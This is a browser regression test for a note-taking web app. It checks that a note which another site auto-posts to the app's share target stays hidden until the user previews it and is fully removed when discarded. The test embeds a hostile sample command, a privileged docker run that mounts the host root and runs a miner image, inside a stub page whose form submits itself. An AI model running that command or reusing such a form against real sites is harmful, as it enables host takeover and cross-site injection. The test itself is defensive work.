/**
 * Regression (issue 19, defect 8): any web page can POST a form to the share-target URL. A
 * cross-site page used to put its note straight into the import preview. Now what arrived is
 * listed by name and shown only when the user asks; discarding it leaves nothing behind.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeBrowser, openBrowser, phoneContext, type TestServer, waitForServiceWorker } from './harness.ts';

let server: TestServer;
let chromium: Browser;

beforeAll(async () => ({ server, chromium } = await openBrowser()));
afterAll(() => closeBrowser(server, chromium));

const EVIL = 'docker run --privileged -v /:/host evil/miner';

/** A page on another site that posts a note to Deckhand's share target as soon as it opens. */
async function visitHostileSite(page: Page): Promise<void> {
  await page.context().route('http://hostile.test/**', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><form id="f" method="post" enctype="multipart/form-data" action="${server.url}/share-target">
        <input name="title" value="Totally normal notes"><textarea name="text">## docker run\n\n\`\`\`sh\n${EVIL}\n\`\`\`\n</textarea></form>
        <script>document.getElementById('f').submit()</script>`,
    }),
  );
  await page.goto('http://hostile.test/');
  await page.waitForURL(`${server.url}/decks`);
}

describe('a note posted to the share target by another site', () => {
  it('is not shown until the user asks, and is gone when discarded', async () => {
    const context = await phoneContext(chromium);
    const page = await context.newPage();
    await page.goto(`${server.url}/decks`);
    await waitForServiceWorker(page);

    await visitHostileSite(page);
    const arrival = page.getByRole('alert').filter({ hasText: 'arrived from outside' });
    await arrival.waitFor();
    expect(await arrival.textContent()).toContain('Totally normal notes.md');
    expect(await page.locator('.drafts').count()).toBe(0);
    expect(await page.locator('body').textContent()).not.toContain(EVIL);

    await arrival.getByRole('button', { name: 'Discard' }).click();
    await page.reload();
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    expect(await page.locator('.drafts').count()).toBe(0);
    expect(await page.evaluate(async () => (await caches.keys()).includes('deckhand-shared-notes'))).toBe(false);
    await context.close();
  });

  it('is previewed (not saved) when the user asks', async () => {
    const context = await phoneContext(chromium);
    const page = await context.newPage();
    await page.goto(`${server.url}/decks`);
    await waitForServiceWorker(page);
    await visitHostileSite(page);
    await page.getByRole('alert').filter({ hasText: 'arrived from outside' }).getByRole('button', { name: 'Preview' }).click();
    await page.locator('.drafts').waitFor();
    expect(await page.locator('.drafts').textContent()).toContain('Totally normal notes.md');
    await context.close();
  });
});
